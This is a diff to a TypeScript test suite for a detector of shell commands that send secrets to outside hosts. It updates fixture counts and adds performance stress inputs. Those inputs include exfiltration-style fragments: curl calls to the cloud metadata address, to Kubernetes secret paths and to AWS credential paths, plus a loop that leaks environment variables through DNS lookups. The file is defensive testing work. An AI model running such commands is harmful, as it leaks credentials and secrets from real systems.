@@ -47,15 +47,15 @@ function fromRaw(raw: string, origin: WriteCandidate['origin']): WriteCandidate 
 }
 
 describe('a shell command that ships secrets to a host', () => {
-  // Two attackers' reviews of shell.ts wrote these: commands that send the environment, key and
+  // Three attackers' reviews of shell.ts wrote these (the third blind to the first two's cases): commands that send the environment, key and
   // credential files or a helper's token out (quarantine), and the honest docs that mention such
   // commands or files (pass). `shell` is what shell.ts itself decides: refuse (a medium hit: a veto
   // from third-party text, dissent in chat), dissent (an example, a private network, mail, ssh) or
   // none. `known` marks the honest texts it still refuses (README "Known limits").
   const cases = JSON.parse(readFileSync(new URL('../fixtures/round14-shell-review.json', import.meta.url), 'utf8')) as {label: string; origin: WriteCandidate['origin']; expect: 'quarantine' | 'pass'; shell: 'refuse' | 'dissent' | 'none'; known?: string; text: string}[]
-  it('holds 61 attacks and 70 honest texts', () => {
-    expect(cases.filter((c) => c.expect === 'quarantine')).toHaveLength(61)
-    expect(cases.filter((c) => c.expect === 'pass')).toHaveLength(70)
+  it('holds 105 attacks and 115 honest texts', () => {
+    expect(cases.filter((c) => c.expect === 'quarantine')).toHaveLength(105)
+    expect(cases.filter((c) => c.expect === 'pass')).toHaveLength(115)
   })
 
   it.each(cases.filter((c) => c.expect === 'quarantine').map((c) => [c.label, c.origin, c.text] as const))('%s (%s) is quarantined', async (_label, origin, text) => {
@@ -72,7 +72,7 @@ describe('a shell command that ships secrets to a host', () => {
   it('no honest text is refused by shell.ts but the known ones', () => {
     const refused = cases.filter((c) => c.expect === 'pass' && c.shell === 'refuse')
     expect(refused.every((c) => c.known !== undefined)).toBe(true)
-    expect(refused).toHaveLength(6)
+    expect(refused).toHaveLength(7)
   })
 
   it.each([
@@ -98,10 +98,11 @@ describe('a shell command that ships secrets to a host', () => {
 })
 
 describe('shell.ts on long adversarial text', () => {
-  // A guard against catastrophic backtracking (a first version took 48 s on 250 KiB of "curl "),
-  // not a performance target: those are measured by `npm run bench`.
+  // A guard against catastrophic backtracking and quadratic loops (a first version took 48 s on 250
+  // KiB of "curl ", a second 15 s on unterminated heredocs), not a performance target: those are
+  // measured by `npm run bench`.
   const fill = (unit: string) => unit.repeat(Math.ceil((256 << 10) / unit.length)).slice(0, 256 << 10)
-  it.each([['curl '], ['curl a '], ['"curl '], ['curl -d x | '], ['env | '], ['nc a '], ['dig a'], ['curl $('], ['.ssh/'], ['https://a.b/c '], ['curl -d x\n'], ['a: ']])('finishes 256 KiB of %j', (unit) => {
+  it.each([['curl '], ['curl a '], ['"curl '], ['curl -d x | '], ['env | '], ['nc a '], ['dig a'], ['curl $('], ['.ssh/'], ['https://a.b/c '], ['curl -d x\n'], ['a: '], ['<<A\n'], ['curl <<T\nx\n'], ['curl .aws/'], ['curl 169.254.169.254/'], ['curl /var/run/secrets/'], ['X=$(env)\n'], ['for c in $(env); do dig $c.x; done\n']])('finishes 256 KiB of %j', (unit) => {
     expect(cpuMs(() => shellExfil(fill(unit)))).toBeLessThan(3000)
   })
 })
